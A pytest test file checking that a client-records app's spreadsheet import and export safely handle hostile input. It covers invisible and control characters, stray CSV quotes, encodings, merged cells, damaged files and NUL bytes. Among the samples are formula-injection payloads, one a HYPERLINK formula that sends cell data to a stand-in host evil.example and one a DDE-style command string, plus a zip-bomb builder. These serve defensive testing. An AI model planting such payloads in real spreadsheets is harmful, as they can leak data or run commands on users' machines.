"""Hostile and messy input (issue 8, section 5): invisible characters, formula injection, stray
quotes, encodings, merged cells, zip bombs and damaged files, and a rejects file that is written
before the import commits. Every file is built here, in tmp_path."""

from __future__ import annotations

import contextlib
import csv
import zipfile
from datetime import datetime
from pathlib import Path

import archive_sql
import openpyxl
import pytest

from app.domain.enums import ActivityKind
from app.domain.errors import DuplicateError, FileError, ValidationError
from app.domain.messages import describe
from app.domain.queries import ActivityQuery, ClientQuery
from app.domain.records import ActivityDraft, ClientDraft, ContactDraft
from app.domain.text import clean, clean_multiline, name_key
from app.exports import spreadsheet
from app.exports.csv_input import escape_formula, unescape_formula
from app.services import activities, clients
from app.services.archive import open_archive
from app.services.client_transfer import (
    TEMPLATE_HEADINGS,
    export_clients,
    import_clients,
    preview_import,
)

pytestmark = pytest.mark.both_backends

# NUL, BEL, ESC, a C1 control, bidirectional overrides/isolates/marks, zero-width characters, BOM
HOSTILE = "\x00\x07\x1b\x9b\u202e\u202a\u2066\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff"


def sprinkle(text: str) -> str:
    """`text` with a hostile character after every character."""
    return "".join(ch + HOSTILE[i % len(HOSTILE)] for i, ch in enumerate(text))


def all_clients(archive):
    ids = clients.list_client_ids(archive, ClientQuery(sort="created_on"))
    return [clients.get_client(archive, i) for i in ids]


def write_csv(path: Path, heading, rows, encoding="utf-8-sig") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(heading)
        writer.writerows(rows)
    return path


# --- invisible characters ----------------------------------------------------------------------


def test_clean_removes_control_bidi_and_zero_width_characters():
    assert clean(sprinkle("广州嘉禾医疗")) == "广州嘉禾医疗"
    assert clean("甲\u202e乙\x00 丙\t丁\n") == "甲乙 丙 丁"
    assert clean_multiline(" 第一行\r\n第二行\x1b[31m\t缩进\u2067\r第三行 ") == (
        "第一行\n第二行[31m\t缩进\n第三行"
    )


def test_name_key_ignores_zero_width_characters():
    assert name_key("广州\u200b嘉禾\ufeff医疗\u2060") == name_key("广州嘉禾医疗")


def test_forms_and_services_save_clean_text(archive):
    created = clients.create_client(
        archive,
        ClientDraft(
            name=sprinkle("广州嘉禾医疗"),
            owner="王\u202e芳",
            source="展会\x07",
            service_policy="优先\x00响应\r\n季度\u200b回访",
            notes="备注\x1b\u2066第二段",
        ),
        [ContactDraft(name="周\u200d强", title="科长\x00", notes="周末\u202e勿扰")],
    )
    client = clients.get_client(archive, created.id)
    assert (client.name, client.owner, client.source) == ("广州嘉禾医疗", "王芳", "展会")
    assert (client.service_policy, client.notes) == ("优先响应\n季度回访", "备注第二段")
    (contact,) = client.contacts
    assert (contact.name, contact.title, contact.notes) == ("周强", "科长", "周末勿扰")
    contact = clients.update_contact(archive, contact.id, ContactDraft(name="周强\u2060"))
    assert contact.name == "周强"

    activity = activities.create_activity(
        archive,
        ActivityDraft(
            client_id=created.id,
            kind=ActivityKind.VISIT,
            started_at=datetime(2026, 11, 20, 9, 0),
            subject="拜访\u202e设备科",
            notes="谈了\x00三件事\r\n一、采购",
            outcome="同意\u200b试用",
            next_step="寄送\x07样机",
        ),
    )
    assert (activity.subject, activity.notes, activity.outcome, activity.next_step) == (
        "拜访设备科",
        "谈了三件事\n一、采购",
        "同意试用",
        "寄送样机",
    )


def test_a_zero_width_character_does_not_make_a_new_client(archive, tmp_path):
    clients.create_client(archive, ClientDraft(name="广州嘉禾医疗"))
    with pytest.raises(DuplicateError):
        clients.create_client(archive, ClientDraft(name="广州\u200b嘉禾\u200d医疗"))
    path = write_csv(tmp_path / "c.csv", ["客户名称"], [["广州嘉禾\ufeff医疗\u2060"], ["\u200b"]])
    report = import_clients(archive, path)
    assert report.imported == 0
    assert [d.row for d in report.duplicates] == [2]
    assert [(p.row, p.code) for p in report.rejected] == [(3, "required")]  # only invisible


def test_a_name_key_stored_before_the_rule_still_finds_the_duplicate(archive, tmp_path):
    created = clients.create_client(archive, ClientDraft(name="旧客户"))
    archive_sql.execute(  # as an older version stored it
        archive,
        "UPDATE clients SET name = ?, name_key = ? WHERE id = ?",
        "旧\u200b客户",
        "旧\u200b客户",
        created.id,
    )
    report = import_clients(archive, write_csv(tmp_path / "c.csv", ["客户名称"], [["旧客户"]]))
    assert (report.imported, [d.existing_id for d in report.duplicates]) == (0, [created.id])


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_import_removes_invisible_characters(archive, tmp_path, suffix):
    heading = ["客户名称", "地区", "联系人", "手机", "备注", "服务政策"]
    row = [
        sprinkle("苏州恒远"),
        "苏\x1b州",
        "孙\u200b丽",
        "139\u200b0000\u202e2222",
        "第一行\x00\n第二行",
        "\u2066=优先响应",
    ]
    path = tmp_path / f"in{suffix}"
    if suffix == ".csv":
        write_csv(path, heading, [row])
    else:  # openpyxl refuses control characters: put them into the XML as Excel does
        spreadsheet.write_table(path, heading, [["X1", "X2", "X3", "X4", "X5", "X6"]])
        _replace_in_sheet(path, dict(zip(["X1", "X2", "X3", "X4", "X5", "X6"], row, strict=True)))
    report = import_clients(archive, path)
    assert (report.imported, report.rejected) == (1, ())
    (client,) = all_clients(archive)
    assert (client.name, client.region, client.notes) == ("苏州恒远", "苏州", "第一行\n第二行")
    assert client.service_policy == "=优先响应"
    assert (client.contacts[0].name, client.contacts[0].mobile) == ("孙丽", "13900002222")


def _replace_in_sheet(path: Path, replacements: dict[str, str]) -> None:
    """Rewrites cell texts inside the .xlsx's sheet XML, control characters escaped as Excel
    writes them (_x0007_: XML 1.0 cannot carry them)."""
    with zipfile.ZipFile(path) as source:
        members = {info: source.read(info) for info in source.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in members.items():
            if info.filename.startswith("xl/worksheets/"):
                text = data.decode()
                for old, new in replacements.items():
                    escaped = "".join(
                        f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch
                        for ch in new.replace("&", "&amp;").replace("<", "&lt;")
                    )
                    text = text.replace(f">{old}<", f">{escaped}<")
                data = text.encode()
            target.writestr(info, data)


def test_a_client_stored_with_control_characters_never_breaks_the_export(archive, tmp_path):
    created = clients.create_client(archive, ClientDraft(name="华南电子"), [ContactDraft("赵磊")])
    clients.create_client(archive, ClientDraft(name="青岛海滨物流"))
    # stored by an older version, or by hand (PostgreSQL's text cannot hold a NUL at all)
    notes = "备注\x1b[0m\x07" if archive.server else "备\x00注\x1b[0m\x07"
    archive_sql.execute(
        archive,
        "UPDATE clients SET notes = ?, address = ? WHERE id = ?",
        notes,
        "地址\ufffe\uffff",
        created.id,
    )
    archive_sql.execute(
        archive, "UPDATE contacts SET title = ? WHERE client_id = ?", "经\x0b理", created.id
    )
    out = tmp_path / "clients.xlsx"
    assert export_clients(archive, out) == 2
    rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert (cells["备注"], cells["地址"], cells["职务"]) == ("备注[0m", "地址", "经理")
    assert rows[2][0] == "青岛海滨物流"
    assert export_clients(archive, tmp_path / "clients.csv") == 2


def test_the_xlsx_writer_drops_what_xml_cannot_hold(tmp_path):
    out = tmp_path / "t.xlsx"
    spreadsheet.write_table(out, ["名称\x00"], [["a\x00b\x1bc\x08", 1], ["正常", None]])
    rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert rows == [("名称", None), ("abc", 1), ("正常", None)]


# --- formula injection -------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "owner": "+王芳",
    "industry": "-医疗",
    "source": "'=已转义的样子",
    "notes": "+86 138 0013 8000\n=1+1",
    "service_policy": "-20% 折扣",
}


def _formula_client(archive):
    return clients.create_client(
        archive,
        ClientDraft(**FORMULAS),
        [ContactDraft(name="=1+2", title="@经理", notes="-负数 -1,234.50")],
    )


def test_xlsx_export_never_writes_a_formula(archive, tmp_path):
    _formula_client(archive)
    out = tmp_path / "clients.xlsx"
    export_clients(archive, out)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    heading = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(heading, sheet[2], strict=True)}
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert row["客户名称"].value == FORMULAS["name"] and row["客户名称"].data_type == "s"
    assert row["客户名称"].quotePrefix  # stays text when someone edits the cell in Excel
    assert row["联系人"].value == "=1+2"
    assert row["联系人备注"].value == "-负数 -1,234.50"
    with zipfile.ZipFile(out) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


def test_csv_export_escapes_formulas_and_imports_back_exactly(archive, tmp_path):
    _formula_client(archive)
    out = tmp_path / "clients.csv"
    export_clients(archive, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        heading, row = list(csv.reader(handle))
    cells = dict(zip(heading, row, strict=True))
    assert cells["客户名称"] == "'" + FORMULAS["name"]
    assert cells["地址"].startswith("'@") and cells["客户经理"] == "'+王芳"
    assert cells["来源"] == "''=已转义的样子"  # an apostrophe of its own is kept exactly
    assert cells["联系人"] == "'=1+2"
    assert all(not c.startswith(("=", "+", "-", "@")) for c in row)

    again = open_archive(tmp_path / "again.sqlite3", clock=archive.clock)
    try:
        assert import_clients(again, out).imported == 1
        (client,) = all_clients(again)
        for field, value in FORMULAS.items():
            assert getattr(client, field) == value, field
        assert (client.contacts[0].name, client.contacts[0].title) == ("=1+2", "@经理")
        export_clients(again, tmp_path / "again.csv")
    finally:
        again.close()
    assert (tmp_path / "again.csv").read_bytes() == out.read_bytes()


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+86 138", "-5", "@x", "\t=1", "\r=1", "'", "''", "'abc", "'=x", "a=b", "", "正常"],
)
def test_formula_escape_round_trips_exactly(text):
    escaped = escape_formula(text)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_formula(escaped) == text


def test_an_apostrophe_typed_by_a_person_is_kept(archive, tmp_path):
    path = write_csv(tmp_path / "c.csv", ["客户名称", "备注"], [["甲公司", "'0101 编号"]])
    import_clients(archive, path)
    assert all_clients(archive)[0].notes == "'0101 编号"


# --- rejects before commit ---------------------------------------------------------------------


def _source_with_a_reject(tmp_path: Path) -> Path:
    return write_csv(
        tmp_path / "in.csv", ["客户名称", "客户等级"], [["甲公司", "A"], ["乙公司", "E级"]]
    )


def test_rejects_are_written_with_the_import(archive, tmp_path):
    out = tmp_path / "fix-me.xlsx"
    report = import_clients(archive, _source_with_a_reject(tmp_path), rejects=out)
    assert (report.imported, report.rejects_saved) == (1, 1)
    rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert rows[0] == ("客户名称", "客户等级", "错误原因")
    assert rows[1][:2] == ("乙公司", "E级") and "客户等级" in rows[1][2]


def test_rejects_that_cannot_be_written_leave_the_archive_unchanged(archive, tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where a folder should be", encoding="utf-8")
    with pytest.raises(OSError):
        import_clients(archive, _source_with_a_reject(tmp_path), rejects=blocker / "r.xlsx")
    assert all_clients(archive) == []


def test_a_failed_commit_leaves_no_rejects_file(archive, tmp_path, monkeypatch):
    real_session = archive.db.session

    @contextlib.contextmanager
    def commit_fails():
        with real_session() as session:
            yield session
            raise OSError(28, "No space left on device")  # as the commit would

    monkeypatch.setattr(archive.db, "session", commit_fails)
    out = tmp_path / "fix-me.csv"
    with pytest.raises(OSError):
        import_clients(archive, _source_with_a_reject(tmp_path), rejects=out)
    monkeypatch.undo()
    assert not out.exists()
    assert all_clients(archive) == []
    assert list(tmp_path.glob(".fix-me*")) == []  # no temporary file left either


def test_rejects_cannot_overwrite_the_source(archive, tmp_path):
    source = _source_with_a_reject(tmp_path)
    with pytest.raises(ValidationError) as caught:
        import_clients(archive, source, rejects=source)
    assert caught.value.code == "rejects_is_source"
    assert all_clients(archive) == []
    assert "乙公司" in source.read_text(encoding="utf-8-sig")


# --- CSV: stray quotes -------------------------------------------------------------------------


def test_a_stray_quote_never_folds_the_following_rows(archive, tmp_path):
    lines = [
        "客户名称,客户等级,地址,备注",
        '甲公司,A,"广州市, 天河区",正常',
        '乙公司,B,"青岛市市南区,没有收尾的引号',  # the stray quote
        "丙公司,C,苏州,正常",
        '丁公司,D,成都,"多行备注',
        '第二行"',  # a real quoted cell over two lines
        '戊公司,"A"类,厦门,Excel 也读作 A类',
        "己公司,B,合肥,末行",
    ]
    path = tmp_path / "stray.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    report = preview_import(archive, path)
    statuses = {r.row: r.status for r in report.rows}
    assert statuses == {2: "ok", 3: "rejected", 4: "ok", 5: "ok", 6: "ok", 7: "ok"}
    (problem,) = report.rejected
    assert (problem.row, problem.column, problem.code) == (3, "地址", "unbalanced_quote")
    assert problem.reason.startswith("引号不配对")
    values = {r.row: r.values for r in report.rows}
    assert values[3][0] == "乙公司"
    assert values[5][TEMPLATE_HEADINGS.index("备注")] == "多行备注\r\n第二行"
    assert values[6][TEMPLATE_HEADINGS.index("客户等级")] == "A类"
    report = import_clients(archive, path, rejects=tmp_path / "fix.csv")
    assert report.imported == 5
    with (tmp_path / "fix.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][:3] == ["乙公司", "B", '"青岛市市南区']  # as written, to be fixed


def test_a_stray_quote_in_the_last_row_and_one_that_closes_rows_later(archive, tmp_path):
    lines = [
        "客户名称,客户等级,备注",
        '甲公司,A,"开了引号',
        "乙公司,B,正常",
        '丙公司,C,这里"结束,多出来的',  # closes the stray cell: a record of the wrong width
        '丁公司,D,"最后一行也没收尾',
    ]
    path = tmp_path / "stray.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    report = preview_import(archive, path)
    assert {r.row: r.status for r in report.rows} == {
        2: "rejected",
        3: "ok",
        4: "ok",
        5: "rejected",
    }
    assert {p.code for p in report.rejected} == {"unbalanced_quote"}


# --- CSV: encodings ----------------------------------------------------------------------------

SIMPLIFIED = [["广州嘉禾医疗设备有限公司", "B类", "周强", "年度框架协议，按季度回访"]]


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16", "utf-16-le", "utf-16-be"]
)
def test_csv_encodings_are_detected(archive, tmp_path, encoding):
    heading = ["客户名称", "客户等级", "联系人", "备注"]
    path = write_csv(tmp_path / "c.csv", heading, SIMPLIFIED, encoding=encoding)
    assert import_clients(archive, path).imported == 1
    (client,) = all_clients(archive)
    assert (client.name, client.tier, client.contacts[0].name) == (
        "广州嘉禾医疗设备有限公司",
        "B",
        "周强",
    )
    assert client.notes == SIMPLIFIED[0][3]


def test_utf16_tab_separated_as_excel_saves_unicode_text(archive, tmp_path):
    text = "客户名称\t客户等级\r\n厦门鹭岛环保\tC\r\n"
    path = tmp_path / "unicode.csv"
    path.write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
    assert import_clients(archive, path).imported == 1
    assert all_clients(archive)[0].name == "厦门鹭岛环保"


@pytest.mark.parametrize("encoding", ["big5", "cp950"])
def test_big5_is_read_as_big5_not_as_gbk(archive, tmp_path, encoding):
    heading = ["客戶名稱", "客戶等級", "聯絡人", "地區", "備註"]
    rows = [["臺北市信義科技股份有限公司", "A", "陳志明", "臺北", "年度框架協議，按季度回訪"]]
    path = write_csv(tmp_path / "big5.csv", heading, rows, encoding=encoding)
    report = import_clients(archive, path)
    assert (report.imported, report.ignored_columns) == (1, ())
    (client,) = all_clients(archive)
    assert (client.name, client.region, client.contacts[0].name) == (
        "臺北市信義科技股份有限公司",
        "臺北",
        "陳志明",
    )


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ("客户名称\nSociété Générale\n".encode("latin-1", "replace"), "unknown_encoding"),
        ("会社名,担当\n株式会社サンプル,山田太郎\n".encode("shift_jis"), "unknown_encoding"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "unknown_encoding"),
        (b"PK\x03\x04" + b"\x00" * 64, "xlsx_named_csv"),
    ],
)
def test_undetectable_encodings_are_refused_not_imported_as_mojibake(archive, tmp_path, data, code):
    path = tmp_path / "odd.csv"
    path.write_bytes(data)
    with pytest.raises(ValidationError) as caught:
        preview_import(archive, path)
    assert caught.value.code == code
    if code == "unknown_encoding":
        assert "请另存为 UTF-8" in describe(caught.value)
    assert all_clients(archive) == []


# --- xlsx: merged cells ------------------------------------------------------------------------


def test_merged_cells_carry_their_value_to_every_row(archive, tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["客户名称", "客户经理", "地区", "联系人"])
    sheet.append(["甲公司", "王芳", "广州", "周强"])
    sheet.append(["乙公司", None, None, "孙丽"])
    sheet.append(["丙公司", None, "苏州", "赵磊"])
    sheet.merge_cells("B2:B4")  # one account manager for three clients
    sheet.merge_cells("C2:C3")
    sheet.append(["丁公司", "刘洋", "合肥", None])
    sheet.merge_cells("C5:D5")  # across columns: stays in its first column
    workbook.save(tmp_path / "merged.xlsx")
    assert import_clients(archive, tmp_path / "merged.xlsx").imported == 4
    by_name = {c.name: c for c in all_clients(archive)}
    assert [by_name[n].owner for n in ("甲公司", "乙公司", "丙公司", "丁公司")] == ["王芳"] * 3 + [
        "刘洋"
    ]
    assert [by_name[n].region for n in ("甲公司", "乙公司", "丙公司", "丁公司")] == [
        "广州",
        "广州",
        "苏州",
        "合肥",
    ]
    assert by_name["丁公司"].contacts == ()


def test_rows_inside_a_merged_heading_are_rejected_with_the_reason(archive, tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["客户名称", "联系人", None])
    sheet.append([None, "姓名", "手机"])  # a two-row heading
    sheet.merge_cells("A1:A2")
    sheet.append(["甲公司", "周强", "13800001111"])
    workbook.save(tmp_path / "two-row-heading.xlsx")
    report = preview_import(archive, tmp_path / "two-row-heading.xlsx")
    assert [(r.row, r.status) for r in report.rows] == [(2, "rejected"), (3, "ok")]
    (problem,) = report.rejected
    assert (problem.column, problem.code) == ("客户名称", "merged_heading")


# --- xlsx: bombs and damaged files -------------------------------------------------------------


def _workbook_with_member(path: Path, name: str, size: int) -> Path:
    """A real workbook plus one member that inflates to `size` bytes of the same byte."""
    spreadsheet.write_table(path, ["客户名称"], [["甲公司"]])
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package,
        package.open(name, "w", force_zip64=True) as member,
    ):
        chunk = b" " * (1 << 20)
        for _ in range(size // len(chunk)):
            member.write(chunk)
    return path


def test_a_zip_bomb_is_refused_before_it_is_read(archive, tmp_path):
    bomb = _workbook_with_member(tmp_path / "bomb.xlsx", "xl/sharedStrings2.xml", 64 << 20)
    assert bomb.stat().st_size < 1 << 20  # 64 MB of XML in well under a megabyte
    with pytest.raises(ValidationError) as caught:
        preview_import(archive, bomb)
    assert caught.value.code == "zip_bomb"
    assert "已拒绝读取" in describe(caught.value)


def test_a_workbook_with_a_small_well_compressed_part_is_read(archive, tmp_path):
    fine = _workbook_with_member(tmp_path / "fine.xlsx", "xl/custom.xml", 4 << 20)
    assert preview_import(archive, fine).imported == 1


@pytest.mark.parametrize(
    "damage",
    ["not a zip", "truncated", "zip without a workbook", "bad sheet xml", "pdf renamed"],
)
def test_damaged_or_foreign_files_get_a_clear_message(archive, tmp_path, damage):
    path = tmp_path / "clients.xlsx"
    spreadsheet.write_table(path, ["客户名称"], [[f"公司{i}"] for i in range(500)])
    data = path.read_bytes()
    if damage == "not a zip":
        path.write_bytes(b"\xd0\xcf\x11\xe0" + b"\x00" * 512)
    elif damage == "truncated":
        path.write_bytes(data[: len(data) // 2])
    elif damage == "zip without a workbook":
        with zipfile.ZipFile(path, "w") as package:
            package.writestr("readme.txt", "hello")
    elif damage == "bad sheet xml":
        with zipfile.ZipFile(tmp_path / "copy.xlsx", "w") as target, zipfile.ZipFile(path) as src:
            for info in src.infolist():
                body = src.read(info)
                if info.filename.startswith("xl/worksheets/"):
                    body = body[: len(body) // 2]
                target.writestr(info, body)
        path = tmp_path / "copy.xlsx"
    else:
        path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 4)
    with pytest.raises(ValidationError) as caught:
        preview_import(archive, path)
    assert caught.value.code == "not_a_workbook"
    assert "不是有效的 Excel 工作簿" in describe(caught.value)


def test_an_unwritable_export_is_explained(archive, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(OSError) as caught:
        export_clients(archive, blocker / "clients.xlsx")
    assert describe(FileError.from_os_error(caught.value))


@pytest.mark.slow
def test_a_legit_large_workbook_still_imports(archive, tmp_path):
    """100,000 rows x 20 columns (~120 MB of sheet XML, compressed ~13 times) pass the guard."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("客户")
    sheet.append([*TEMPLATE_HEADINGS, *(f"其他{i}" for i in range(7))])
    for i in range(100_000):
        sheet.append(
            [f"北京第{i}号科技有限公司", None, "ABCD"[i % 4], "软件", "北京", f"海淀区{i}号"]
            + ["王芳", "2024-03-05", f"联系人{i}", "经理", f"139{i:08d}", f"u{i}@example.com"]
            + ["备注", *(f"值{i}" for _ in range(7))]
        )
    path = tmp_path / "large.xlsx"
    workbook.save(path)
    report = preview_import(archive, path)
    assert (report.imported, report.rejected) == (100_000, ())


# --- NUL (U+0000): PostgreSQL's text cannot hold it; both back ends store the same without it ---


def test_a_nul_pasted_into_any_field_is_dropped_on_both_back_ends(archive):
    from app.services import documents
    from app.services.documents import Edit

    created = clients.create_client(
        archive, ClientDraft(name="北京\x00华信科技"), [ContactDraft("张\x00伟")]
    )
    client = clients.get_client(archive, created.id)
    assert (client.name, client.contacts[0].name) == ("北京华信科技", "张伟")
    found = clients.list_client_ids(archive, ClientQuery(text="华\x00信"))
    assert list(found) == [created.id]  # a search typed with one finds what it would without

    letter = documents.create_document(
        archive, "letter", "letter", title="对账\x00函", values={"subject": "对\x00账"}
    )
    letter = documents.save_document(
        archive, letter.id, Edit(body="正文\x00第一段\n{{subject}}", values={"subject": "调\x00价"})
    )
    assert (letter.title, letter.body, letter.values["subject"]) == (
        "对账函",
        "正文第一段\n{{subject}}",
        "调价",
    )
    template = documents.save_template(
        archive, "my_letter", "我的函", "您好\x00：{{subject}}", "letter"
    )
    assert "\x00" not in documents.get_template(archive, template.key).body


def test_an_imported_row_with_a_nul_is_imported_without_it(archive, tmp_path):
    heading = ["客户名称", "联系人", "手机", "备注"]
    rows = [["苏州\x00恒远", "孙\x00丽", "1390000\x002222", "第一行\x00"], ["杭州\x00", "", "", ""]]
    report = import_clients(archive, write_csv(tmp_path / "nul.csv", heading, rows))
    assert (report.imported, report.rejected) == (2, ())
    imported = {c.name: c for c in all_clients(archive)}
    assert set(imported) == {"苏州恒远", "杭州"}
    contact = imported["苏州恒远"].contacts[0]
    assert (contact.name, contact.mobile, imported["苏州恒远"].notes) == (
        "孙丽",
        "13900002222",
        "第一行",
    )


def test_a_filter_typed_with_a_nul_finds_the_same_on_both_back_ends(archive):
    """A NUL in a list's filter is dropped from the statement on both back ends (a review found
    the activity list's text filter found the visits on a team archive and nothing in a file)."""
    client = clients.create_client(archive, ClientDraft("北京华信科技有限公司"))
    activities.create_activity(
        archive, ActivityDraft(client.id, ActivityKind.CALL, archive.now(), "电话回访")
    )
    typed = activities.count_activities(archive, ActivityQuery(text="电\x00话"))
    assert typed == activities.count_activities(archive, ActivityQuery(text="电话")) == 1
